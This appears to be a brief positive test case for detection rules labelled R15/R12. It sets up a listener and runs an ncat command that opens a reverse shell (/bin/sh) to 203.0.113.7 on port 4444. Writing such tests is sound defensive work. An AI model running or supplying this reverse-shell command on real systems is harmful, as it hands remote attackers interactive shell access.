# R15/R12 positive: ncat --sh-exec forks a shell bound to the connection
catcher 4444 'id\nexit\n'
ncat --sh-exec 'exec /bin/sh' 203.0.113.7 4444
catcher_wait
true
